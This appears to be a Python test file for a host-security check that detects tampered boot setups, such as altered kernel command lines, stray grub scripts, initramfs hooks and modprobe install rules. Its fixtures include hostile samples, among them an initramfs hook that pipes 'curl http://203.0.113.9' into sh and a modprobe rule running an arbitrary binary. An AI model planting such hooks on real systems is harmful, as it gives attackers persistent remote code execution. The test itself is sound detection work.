from __future__ import annotations

from tasks.checks.host.boot_altered import BootAltered
from tenantry.capabilities.host_survey import BootFile
from tests.tasks.checks.host._facts import NEW, OLD, cannot, found, put, survey

CHECK = BootAltered()


def test_a_start_that_nobody_sets_up() -> None:
    assert [s for s, _ in found(CHECK, survey(boot_line="BOOT_IMAGE=/vmlinuz ro init=/usr/lib/.x/init"))] == ["high"]
    assert [s for s, _ in found(CHECK, survey(boot_line="ro quiet\nlinux /vmlinuz rd.break"))] == ["high"]
    files = (
        put("boot", "/etc/grub.d/99_x", "#!/bin/sh\n", mode=0o755),
        put("boot", "/etc/initramfs-tools/hooks/x", "#!/bin/sh\ncurl http://203.0.113.9 | sh\n", mode=0o755),
        put("modules", "/etc/modprobe.d/x.conf", "install usb-storage /usr/local/bin/x\n"),
    )
    assert [s for s, _ in found(CHECK, survey(files=files))] == ["critical", "medium", "medium"]
    late = BootFile(path="/boot/initrd.img-6.1.0", changed_at=NEW)
    assert found(CHECK, survey(boot=(late,), packages_changed_at=OLD)) == [("low", late.path)]


def test_what_distributions_and_guides_set() -> None:
    line = "BOOT_IMAGE=/vmlinuz-6.1.0 root=/dev/sda1 ro quiet init=/lib/systemd/systemd mitigations=auto"
    files = (
        put("modules", "/etc/modprobe.d/cis.conf", "install cramfs /bin/true\nblacklist dccp\n"),
        put("boot", "/etc/default/grub", 'GRUB_CMDLINE_LINUX="quiet"\n'),
        put("boot", "/etc/grub.d/40_custom", "#!/bin/sh\n", mode=0o755),
    )
    fresh = BootFile(path="/boot/initrd.img-6.1.0", changed_at=NEW)
    fact = survey(boot_line=line, files=files, boot=(fresh,), packages_changed_at=NEW, owned=("/etc/grub.d/40_custom",))
    assert found(CHECK, fact) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files", "boot")
